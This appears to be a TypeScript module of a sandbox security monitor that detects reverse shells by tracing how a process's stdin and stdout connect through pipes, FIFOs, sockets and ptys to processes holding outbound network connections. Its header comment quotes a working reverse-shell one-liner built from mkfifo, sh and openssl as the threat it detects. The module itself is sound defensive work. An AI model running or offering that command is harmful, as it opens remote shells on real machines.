// The process and pipe graph of one sandbox, resolved without reading any command line.
//
// Threat: a reverse shell assembled from parts, `mkfifo f; sh -i <f 2>&1 | openssl s_client
// -connect h:443 >f`. No single argv tells (the shell has no socket, the TLS client runs no
// shell), and every part can be renamed. What cannot change is the wiring: the shell reads
// its commands from an object (pipe, FIFO, unix socket, pty) whose other end is held by a
// process that holds an outbound inet socket, and writes its output into another that leads
// to one too. This file is the pure part: given what /proc showed (pipe-graph-read.ts), it
// follows fds 0, 1 and 2 of a process through those objects to the processes at the other
// ends, transitively (a `cat f | sh | nc` relay is two hops), and says whether and how they
// reach the network.
//
// Direction matters, or a download piped into a pager would look like a shell on the wire:
// for fd 0 we follow writers (who feeds it, and who feeds them); for fds 1-2 we follow readers.
// The sandbox's root process (praetor-init, which relays every command's stdio to the host)
// is never traversed: through it every process would reach every other.

export type ObjKind = 'pipe' | 'fifo' | 'unix' | 'pty' | 'inet';

export interface FdRef {
  fd: number;
  /** identity of the object behind the fd, shared by every fd on it: `p:<dev>:<ino>` (pipe, FIFO),
   * `s:<ino>` (socket), `tm:<n>` / `ts:<n>` (pty master / slave number n) */
  obj: string;
  kind: ObjKind;
  /** human label: `pipe:[12]`, `/tmp/f`, `unix:[14]`, `/dev/pts/3`, `203.0.113.5:443` */
  label: string;
  read: boolean;
  write: boolean;
}

export interface ProcNode {
  pid: number; ppid: number; comm: string; fds: FdRef[];
  /** start time (clock ticks since boot) and exe basename: used to recognise the sandbox's init */
  start?: number; exeName?: string;
}

export interface NetFacts {
  /** socket inode → remote `ip:port`, for inet sockets that are connected to a non-loopback peer */
  outbound: ReadonlyMap<number, string>;
  /** unix socket inode → its peer's inode (socketpairs and connected stream sockets) */
  unixPeer: ReadonlyMap<number, number>;
}

/**
 * How a direction reaches the network:
 * - `direct`: the fd itself is an outbound inet socket (nc -e, dup2 one-liners);
 * - `pipeline`: the process holding the socket touches the chain through its own fd 0-2, the
 *   way shell pipelines and FIFO loops wire relays (nc, openssl, socat, cat, a renamed copy);
 * - `supervisor`: the socket holder reaches the chain on fds ≥ 3, the way a program drives a
 *   child it spawned (npm running a lifecycle script while its keep-alive pool is open, an
 *   agent harness driving a shell, a python relay loop) — weaker evidence;
 * - `none`: no process on the chain holds an outbound socket.
 */
export type Via = 'direct' | 'pipeline' | 'supervisor' | 'none';

export interface StdioReach {
  inVia: Via;
  outVia: Via;
  /** one line per direction that reaches the network, e.g. `fd0 < /tmp/f < openssl[42] > 203.0.113.5:443` */
  chain: string[];
  /** remote ip:port of the sockets reached */
  peers: string[];
  /** fd 0 and fds 1-2 reach the same remote host: the loop of a reverse shell */
  sameHost: boolean;
}

/** Longest relay chain followed; real pipelines are 1-3 hops, a bound keeps a hostile graph cheap. */
const MAX_HOPS = 6;
const RANK: Record<Via, number> = { none: 0, supervisor: 1, pipeline: 2, direct: 3 };

export class PipeGraph {
  readonly #procs = new Map<number, ProcNode>();
  /** object → holders (pid, fd) */
  readonly #holders = new Map<string, Array<{ pid: number; ref: FdRef }>>();
  /** Never traversed: the sandbox's root and its init, which relay every command's stdio. */
  readonly #roots: ReadonlySet<number>;
  readonly #net: NetFacts;

  constructor(procs: readonly ProcNode[], net: NetFacts) {
    this.#net = net;
    for (const p of procs) {
      this.#procs.set(p.pid, p);
      for (const ref of p.fds) {
        let h = this.#holders.get(ref.obj);
        if (!h) { h = []; this.#holders.set(ref.obj, h); }
        h.push({ pid: p.pid, ref });
      }
    }
    this.#roots = hubsOf(procs, this.#procs);
  }

  get pids(): number[] { return [...this.#procs.keys()]; }

  /** The outbound socket a process holds, if any: [fd, `ip:port`]. */
  outboundOf(pid: number): { fd: number; peer: string } | undefined {
    for (const r of this.#procs.get(pid)?.fds ?? []) {
      if (r.kind !== 'inet') continue;
      const peer = this.#net.outbound.get(Number(r.obj.slice(2)));
      if (peer) return { fd: r.fd, peer };
    }
    return undefined;
  }

  /**
   * The object at the other end of `ref`. A pipe or FIFO is one object with two ends, so the
   * far side is the object itself. A unix socket's far side is its peer, and a pty slave's its
   * master: other holders of the same socket or slave (the shell's own children) write to the
   * far end too, not to us, and must not count as feeding us.
   */
  #farSide(ref: FdRef): string | undefined {
    if (ref.kind === 'pipe' || ref.kind === 'fifo') return ref.obj;
    if (ref.kind === 'pty') return ref.obj.startsWith('tm:') ? `ts:${ref.obj.slice(3)}` : `tm:${ref.obj.slice(3)}`;
    if (ref.kind === 'unix') {
      const peer = this.#net.unixPeer.get(Number(ref.obj.slice(2)));
      return peer === undefined ? undefined : `s:${peer}`;
    }
    return undefined;
  }

  /** Follows fd 0 (dir 'in': writers) or fds 1-2 (dir 'out': readers) of `pid`. */
  #follow(pid: number, dir: 'in' | 'out'): { via: Via; line?: string; peer?: string } {
    const start = this.#procs.get(pid);
    if (!start) return { via: 'none' };
    const fds = start.fds.filter((r) => (dir === 'in' ? r.fd === 0 : r.fd === 1 || r.fd === 2));
    for (const r of fds) {
      if (r.kind !== 'inet') continue;
      const peer = this.#net.outbound.get(Number(r.obj.slice(2)));
      if (peer) return { via: 'direct', line: `fd${r.fd} = ${peer}`, peer };
    }
    // Objects our own stdio (in this direction) is: a socket holder that holds one of them on
    // its own stdio the same way shares our stream (a child that inherited it: git's
    // `sh -c 'ssh …'` wrapper and its ssh), it does not feed or drain us.
    const own = new Set(fds.map((r) => r.obj));
    const shares = (n: ProcNode): boolean => n.fds.some((r) => own.has(r.obj) && (dir === 'in' ? r.fd === 0 : r.fd === 1 || r.fd === 2));
    let best: { via: Via; line?: string; peer?: string } = { via: 'none' };
    // BFS over (object, path so far). A visited set of pids keeps cycles (the FIFO loop) finite.
    type Step = { ref: FdRef; path: string; hops: number };
    const queue: Step[] = fds.filter((r) => r.kind !== 'inet').map((r) => ({ ref: r, path: `fd${r.fd} ${dir === 'in' ? '<' : '>'} ${r.label}`, hops: 0 }));
    const seen = new Set<number>([pid]);
    while (queue.length > 0) {
      const s = queue.shift()!;
      const far = this.#farSide(s.ref);
      if (far === undefined) continue;
      for (const h of this.#holders.get(far) ?? []) {
        if (seen.has(h.pid) || this.#roots.has(h.pid)) continue;
        // The far end must move data our way: a writer feeds fd 0, a reader drains fds 1-2.
        if (dir === 'in' ? !h.ref.write : !h.ref.read) continue;
        seen.add(h.pid);
        const node = this.#procs.get(h.pid)!;
        const path = `${s.path} ${dir === 'in' ? '<' : '>'} ${node.comm}[${h.pid}]`;
        const out = this.outboundOf(h.pid);
        if (out && shares(node)) continue;
        if (out) {
          const via: Via = h.ref.fd <= 2 ? 'pipeline' : 'supervisor';
          if (RANK[via] > RANK[best.via]) best = { via, line: `${path} (fd${h.ref.fd}) ${dir === 'in' ? '<' : '>'} ${out.peer}`, peer: out.peer };
          if (via === 'pipeline') return best;
          continue;
        }
        if (s.hops + 1 >= MAX_HOPS) continue;
        // A relay: continue from its other fds in the same direction (a `cat f` reading a
        // FIFO on fd 3 and writing the shell's stdin on fd 1 passes data along).
        for (const r of node.fds) {
          if (r === h.ref || r.kind === 'inet') continue;
          if (dir === 'in' ? !r.read : !r.write) continue;
          queue.push({ ref: r, path: `${path} ${dir === 'in' ? '<' : '>'} ${r.label}`, hops: s.hops + 1 });
        }
      }
    }
    return best;
  }

  /** Where fds 0-2 of `pid` lead. */
  reach(pid: number): StdioReach {
    const i = this.#follow(pid, 'in');
    const o = this.#follow(pid, 'out');
    return {
      inVia: i.via, outVia: o.via,
      chain: [i.line, o.line].filter((x): x is string => x !== undefined),
      peers: [...new Set([i.peer, o.peer].filter((x): x is string => x !== undefined))],
      sameHost: i.peer !== undefined && o.peer !== undefined && hostOf(i.peer) === hostOf(o.peer),
    };
  }
}

const hostOf = (peer: string): string => peer.slice(0, peer.lastIndexOf(':'));

/** The init binary inside every sandbox (native/praetor-init), started by the runtime first. */
const INIT_NAME = '.praetor-init';

/**
 * The sandbox's root — the earliest-started process whose parent is outside the view (bwrap, as
 * pid 1 of the sandbox) — plus its earliest-started child if that runs praetor-init. Earliest,
 * not any: an orphaned relay is reparented to pid 1 too, a process whose parent just exited has
 * its parent outside the view for a moment, and naming a copy of nc `.praetor-init` must not
 * hide it.
 */
function hubsOf(procs: readonly ProcNode[], byPid: ReadonlyMap<number, ProcNode>): Set<number> {
  const hubs = new Set<number>();
  const earliest = (xs: ProcNode[]): ProcNode | undefined => xs.reduce<ProcNode | undefined>((a, p) => (a === undefined || (p.start ?? 0) < (a.start ?? 0) ? p : a), undefined);
  const root = earliest(procs.filter((p) => !byPid.has(p.ppid)));
  if (!root) return hubs;
  hubs.add(root.pid);
  const first = earliest(procs.filter((p) => p.ppid === root.pid));
  if (first && (first.exeName === INIT_NAME || first.comm === INIT_NAME)) hubs.add(first.pid);
  return hubs;
}
